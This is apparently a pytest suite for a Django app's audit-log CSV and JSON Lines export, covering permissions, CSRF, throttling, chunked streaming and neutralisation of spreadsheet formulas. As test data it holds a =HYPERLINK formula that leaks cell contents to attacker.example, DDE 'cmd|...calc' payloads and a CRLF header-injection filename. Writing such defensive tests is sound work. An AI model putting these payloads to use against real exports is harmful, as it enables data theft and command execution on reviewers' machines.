"""Organization → Audit log → Download CSV / JSON Lines: the API's events as a file, for
owners and admins, as the page filters them, streamed by position in bounded chunks."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from apps.apikeys.keyformat import KeyKind
from apps.audit.models import AuditEvent
from apps.audit.services import Action, record_event
from apps.projects.services import create_project
from core import export
from tests.conftest import access_token_for, bearer
from tests.factories import make_key
from tests.pages import html, key_page_url, logged_in
from tests.security.test_csrf_everywhere import CSRF_REFUSAL, PostForms

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A2,"Click for details")'


def export_url(organization, file_format: str) -> str:
    return f"/orgs/{organization.id}/audit-log/export.{file_format}"


def event(organization, action, minutes_ago, label, **kwargs):
    created = record_event(
        action=action,
        organization_id=organization.id,
        target_type="project",
        target_label=label,
        **kwargs,
    )
    AuditEvent.objects.filter(pk=created.pk).update(
        created_at=timezone.now() - timedelta(minutes=minutes_ago)
    )
    return created


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[dict[str, str]]:
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff"), "a BOM, for Excel to read UTF-8"
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def json_rows(response) -> list[dict]:
    return [json.loads(line) for line in body(response).decode().splitlines()]


def exports_recorded(organization) -> int:
    return AuditEvent.objects.filter(
        organization=organization, action=Action.AUDIT_LOG_EXPORTED
    ).count()


@pytest.mark.parametrize("role", ["owner", "admin"])
def test_managers_download_the_log_as_csv_newest_first(request, role, organization, owner):
    event(organization, Action.KEY_MINTED, 30, "older-event", actor_user=owner)
    event(organization, Action.KEY_REVOKED, 5, "newer-event", actor_user=owner)

    response = logged_in(request.getfixturevalue(role)).post(export_url(organization, "csv"))

    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    disposition = response["Content-Disposition"]
    assert re.fullmatch(
        rf'attachment; filename="sigsentry-audit-log-{organization.id}-\d{{8}}T\d{{6}}Z\.csv"',
        disposition,
    ), disposition
    assert response["Cache-Control"] == "no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = csv_rows(response)
    labels = [row["target.label"] for row in rows]
    assert labels[1:] == ["newer-event", "older-event"]
    assert rows[0]["action"] == Action.AUDIT_LOG_EXPORTED  # the download's own event first
    assert list(rows[1]) == list(AuditEventColumns)
    assert rows[1]["actor.email"] == owner.email and rows[1]["actor.type"] == "user"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", rows[1]["createdAt"])


AuditEventColumns = (
    "id",
    "action",
    "actor.type",
    "actor.id",
    "actor.email",
    "actor.prefix",
    "target.type",
    "target.id",
    "target.label",
    "projectId",
    "ip",
    "createdAt",
    "details",
)


def test_json_lines_hold_the_apis_events_exactly(owner, organization, project, api_client):
    make_key(KeyKind.SECRET, project=project, actor=owner, name="Ünïcode key")
    make_key(KeyKind.ORGANIZATION, organization=organization, actor=owner)

    response = logged_in(owner).post(export_url(organization, "jsonl"))
    downloaded = json_rows(response)
    listed = api_client.get(
        f"/v1/organizations/{organization.id}/audit-events", **bearer(access_token_for(owner))
    ).json()["results"]

    assert response["Content-Type"] == "application/jsonl"
    assert response["Content-Disposition"].endswith('.jsonl"')
    assert downloaded == listed
    assert {"key.minted", Action.AUDIT_LOG_EXPORTED} <= {row["action"] for row in downloaded}
    assert "Ünïcode key" in body(logged_in(owner).post(export_url(organization, "jsonl"))).decode()


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_the_pages_action_filter_is_honoured(owner, organization, file_format):
    event(organization, Action.KEY_MINTED, 3, "minted-one")
    event(organization, Action.MEMBER_ADDED, 2, "added-one")
    client = logged_in(owner)

    response = client.post(export_url(organization, file_format), {"action": "member.added"})

    text = body(response).decode()
    assert "added-one" in text and "minted-one" not in text
    assert "-member.added-" in response["Content-Disposition"]


def test_an_unknown_action_filter_downloads_everything_as_the_page_shows(owner, organization):
    event(organization, Action.KEY_MINTED, 3, "minted-one")

    response = logged_in(owner).post(export_url(organization, "csv"), {"action": "<script>"})

    assert "minted-one" in body(response).decode()
    assert "script" not in response["Content-Disposition"]


def test_before_continues_after_an_event_of_this_log_only(owner, organization, outsider):
    old = event(organization, Action.KEY_MINTED, 30, "old-event")
    middle = event(organization, Action.KEY_MINTED, 20, "middle-event")
    event(organization, Action.KEY_MINTED, 10, "new-event")
    foreign = event(outsider.memberships.get().organization, Action.KEY_MINTED, 1, "foreign")
    client = logged_in(owner)

    after_middle = body(client.post(export_url(organization, "csv"), {"before": middle.id}))
    ignored = body(client.post(export_url(organization, "csv"), {"before": foreign.id}))

    assert "old-event" in after_middle.decode() and "new-event" not in after_middle.decode()
    assert str(old.id) in after_middle.decode()
    assert "new-event" in ignored.decode() and "foreign" not in ignored.decode()


def test_a_name_that_is_a_formula_is_only_text_in_the_csv(owner, organization):
    """OWASP CSV injection: a project named `=HYPERLINK(…)` would run in the reviewer's
    sheet (a key's name is in its event's details, JSON: a cell that starts with `{`)."""
    create_project(actor=owner, organization=organization, name=FORMULA)
    for start in ("+", "-", "@", "\t", "\r"):
        event(organization, Action.PROJECT_UPDATED, 1, f"{start}cmd|' /C calc'!A0")

    rows = csv_rows(logged_in(owner).post(export_url(organization, "csv")))

    created = next(row for row in rows if row["action"] == "project.created")
    assert created["target.label"] == "'" + FORMULA
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(export.FORMULA_STARTS)]
    assert {f"'{start}cmd|' /C calc'!A0" for start in "+-@\t\r"} <= set(cells)


@pytest.mark.parametrize("role", ["member", "viewer"])
@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_members_and_viewers_get_403_and_nothing_is_recorded(
    request, role, organization, file_format
):
    event(organization, Action.KEY_MINTED, 1, "secretive")

    response = logged_in(request.getfixturevalue(role)).post(export_url(organization, file_format))

    assert response.status_code == 403 and not response.streaming
    assert "secretive" not in html(response)
    assert exports_recorded(organization) == 0


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_outsider_gets_404_and_nothing_is_recorded(outsider, organization, file_format):
    event(organization, Action.KEY_MINTED, 1, "secretive")

    response = logged_in(outsider).post(export_url(organization, file_format))

    assert response.status_code == 404
    assert "secretive" not in html(response)
    assert exports_recorded(organization) == 0


def test_a_logged_out_download_goes_to_the_login(client, organization):
    response = client.post(export_url(organization, "csv"))
    assert response.status_code == 302 and response["Location"].startswith("/login/")


def test_each_download_is_an_audit_event(owner, organization):
    body(logged_in(owner).post(export_url(organization, "jsonl"), {"action": "key.revoked"}))

    [recorded] = AuditEvent.objects.filter(action=Action.AUDIT_LOG_EXPORTED)
    assert recorded.organization_id == organization.id and recorded.actor_user_id == owner.id
    assert recorded.target_type == "organization" and recorded.target_label == organization.name
    assert recorded.details == {"format": "jsonl", "action": "key.revoked"}


def test_a_get_or_head_records_and_counts_nothing_and_leads_to_the_page(
    owner, member, outsider, organization, project, settings, throttle_clock
):
    """Another site can make the browser GET an address (a link, a top-level navigation
    carries the SameSite=Lax cookies): it must not write an audit event nor spend the
    user's downloads. Such a GET or HEAD (RFC 9110: a server that serves GET serves HEAD;
    `tests/security/test_head_everywhere.py`) leads to the page, as it was filtered."""
    settings.THROTTLE_RATES = {**settings.THROTTLE_RATES, "download_user": (1, 3600)}
    middle = event(organization, Action.MEMBER_ADDED, 2, "added-one")
    client = logged_in(owner)
    query = f"?action=member.added&before={middle.id}"
    log_urls = [export_url(organization, "csv"), export_url(organization, "jsonl")]
    key_urls = [f"{key_page_url(kind, project)}export.csv" for kind in KeyKind]

    answers = [
        (url, getattr(client, method)(url + query))
        for url in log_urls + key_urls
        for method in ("get", "head", "get")
    ]

    assert exports_recorded(organization) == 0
    assert not any(response.streaming for _, response in answers)
    pages = {url: response["Location"] for url, response in answers if response.status_code == 302}
    assert len(pages) == 5 and len(answers) == 15
    assert set(pages.values()) == {
        f"/orgs/{organization.id}/audit-log/?action=member.added&before={middle.id}",
        *(key_page_url(kind, project) for kind in KeyKind),
    }
    for url in log_urls + key_urls:
        assert logged_in(outsider).get(url).status_code == 404
        assert logged_in(outsider).head(url).status_code == 404
    assert logged_in(member).get(log_urls[0]).status_code == 403
    assert client.post(log_urls[0]).status_code == 200  # the hour's one download still there
    assert exports_recorded(organization) == 1


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_a_download_needs_the_pages_csrf_token(
    owner, organization, file_format, settings, throttle_clock
):
    """Django's real CSRF check: a form another site makes (no token) is refused before the
    view, nothing recorded or counted; the page's own form downloads."""
    settings.THROTTLE_RATES = {**settings.THROTTLE_RATES, "download_user": (1, 3600)}
    event(organization, Action.MEMBER_ADDED, 2, "added-one")
    client = logged_in(owner, Client(enforce_csrf_checks=True))
    page = html(client.get(f"/orgs/{organization.id}/audit-log/?action=member.added"))
    [form] = [f for f in PostForms(page).forms if f.action == f"export.{file_format}"]
    url = export_url(organization, file_format)

    forged = client.post(url, {"action": "member.added"})

    assert forged.status_code == 403 and CSRF_REFUSAL in html(forged)
    assert exports_recorded(organization) == 0
    sent = client.post(url, form.hidden)
    assert sent.status_code == 200 and "added-one" in body(sent).decode()
    assert exports_recorded(organization) == 1


def download_forms(page: str) -> list:
    return [form for form in PostForms(page).forms if form.action.startswith("export.")]


def test_the_pages_download_forms_carry_its_filter_and_position(owner, organization):
    newer = event(organization, Action.MEMBER_ADDED, 2, "added-one")
    client = logged_in(owner)
    log = f"/orgs/{organization.id}/audit-log/"

    newest = html(client.get(log + "?action=member.added"))
    older = html(client.get(log + f"?action=member.added&before={newer.id}"))
    unknown = html(client.get(log + "?before=not-an-id"))

    forms = download_forms(newest)
    assert [f.action for f in forms] == ["export.csv", "export.jsonl"]
    assert all(set(f.hidden) == {"csrfmiddlewaretoken", "action"} for f in forms)
    assert all(f.hidden["action"] == "member.added" for f in forms)
    assert ">Download CSV</button>" in newest and ">Download JSON Lines</button>" in newest
    assert 'href="export.' not in newest  # a link is a GET: it downloads nothing now
    assert "newest first, at most" in newest
    assert all(f.hidden["before"] == str(newer.id) for f in download_forms(older))
    assert "newest first from this page on, at most" in older
    assert all(set(f.hidden) == {"csrfmiddlewaretoken"} for f in download_forms(unknown))


def grow(organization, owner, count: int) -> None:
    AuditEvent.objects.bulk_create(
        AuditEvent(
            organization=organization,
            action=Action.KEY_MINTED,
            actor_type="user",
            actor_user=owner,
            actor_label=owner.email,
            target_type="key",
            target_label=f"key {n}",
        )
        for n in range(count)
    )


def queries_of(client, url: str) -> tuple[int, int]:
    """(queries, rows) of a whole download, its stream read to the end."""
    with CaptureQueriesContext(connection) as ctx:
        rows = len(body(client.post(url)).splitlines())
    return len(ctx.captured_queries), rows


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_a_download_costs_one_query_per_chunk_whatever_the_rows(
    owner, organization, monkeypatch, file_format
):
    client = logged_in(owner)
    url = export_url(organization, file_format)
    grow(organization, owner, 3)
    queries_of(client, url)  # warmed up
    few, _ = queries_of(client, url)
    grow(organization, owner, 60)
    many, _ = queries_of(client, url)
    assert many == few

    monkeypatch.setattr(export, "CHUNK_ROWS", 10)
    grow(organization, owner, 7)  # 70 events, and 3 downloads so far, each an event
    chunked, lines = queries_of(client, url)
    assert lines == 74 + (file_format == "csv")  # 73 + the download's own (+ the header)
    assert chunked == few + 7  # 8 chunks (7 of 10, then 4) instead of 1


def test_a_download_holds_at_most_most_rows(owner, organization, monkeypatch):
    monkeypatch.setattr(export, "MOST_ROWS", 5)
    monkeypatch.setattr(export, "CHUNK_ROWS", 2)
    grow(organization, owner, 12)

    rows = csv_rows(logged_in(owner).post(export_url(organization, "csv")))

    assert len(rows) == 5
    page = html(logged_in(owner).get(f"/orgs/{organization.id}/audit-log/"))
    assert "newest first, at most 5 events a file;" in page


def test_newest_first_reads_each_row_once_across_chunks_of_equal_times(organization, owner):
    moment = timezone.now()
    AuditEvent.objects.bulk_create(
        AuditEvent(
            organization=organization,
            action=Action.KEY_MINTED,
            actor_type="system",
            created_at=moment - timedelta(seconds=n // 7),
        )
        for n in range(10)
    )
    events = AuditEvent.objects.filter(organization=organization)

    read = [e.id for e in export.newest_first(events, chunk=2)]
    capped = [e.id for e in export.newest_first(events, chunk=3, most=4)]

    expected = list(events.order_by("-created_at", "-id").values_list("id", flat=True))
    assert read == expected and len(set(read)) == 10
    assert capped == expected[:4]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_neutralizes_each_formula_start(start):
    assert export.csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_csv_cell_keeps_other_text_and_writes_none_as_empty():
    assert [export.csv_cell(v) for v in ("a=b", " =1", "'=1", None, 7)] == [
        "a=b",
        " =1",
        "'=1",
        "",
        "7",
    ]


@pytest.mark.parametrize("name", ['a".csv', "é.csv", "a;b.csv", "a b.csv", "a\r\nX-Evil: 1"])
def test_a_download_name_must_be_plain_ascii(name):
    with pytest.raises(ValueError):
        export.download(iter(()), filename=name, content_type="text/csv")


def test_the_api_lists_and_filters_the_downloads(owner, organization, api_client):
    body(logged_in(owner).post(export_url(organization, "csv")))
    event(organization, Action.KEY_MINTED, 1, "minted-one")

    response = api_client.get(
        f"/v1/organizations/{organization.id}/audit-events?action=audit_log.exported",
        **bearer(access_token_for(owner)),
    )
    schema = api_client.get("/v1/schema?format=json").json()

    assert response.status_code == 200
    [listed] = response.json()["results"]
    assert listed["action"] == "audit_log.exported"
    assert listed["target"]["type"] == "organization" and listed["actor"]["email"] == owner.email
    assert "audit_log.exported" in json.dumps(schema)


def test_the_first_chunk_is_read_before_the_answer_starts(owner, organization):
    """So a database outage there is the 503 page, not a 200 cut short."""
    event(organization, Action.KEY_MINTED, 1, "minted-one")
    client = logged_in(owner)

    with CaptureQueriesContext(connection) as ctx:
        response = client.post(export_url(organization, "csv"))
    read = [q["sql"] for q in ctx.captured_queries if "ORDER BY" in q["sql"]]

    assert any('FROM "audit_auditevent"' in sql for sql in read), read
    assert "minted-one" in body(response).decode()


def test_downloads_past_the_hours_budget_get_the_429_page(
    owner, organization, project, settings, throttle_clock
):
    """Each file holds a sync worker for up to seconds: one account may not keep them busy."""
    settings.THROTTLE_RATES = {**settings.THROTTLE_RATES, "download_user": (2, 3600)}
    client = logged_in(owner)
    body(client.post(export_url(organization, "csv")))
    b"".join(client.post(f"/projects/{project.id}/api-keys/export.csv").streaming_content)

    refused = client.post(export_url(organization, "jsonl"))

    assert refused.status_code == 429 and not refused.streaming
    assert 0 < int(refused["Retry-After"]) <= 3600
    assert "Too many downloads" in html(refused) and "You downloaded 2 files" in html(refused)
    assert "Please wait about 1 hour and try again" in html(refused)  # not "60 minutes"
    assert exports_recorded(organization) == 1
    assert client.post(f"/projects/{project.id}/sdk-keys/export.csv").status_code == 429
    throttle_clock.advance(3600)
    assert client.post(export_url(organization, "csv")).status_code == 200
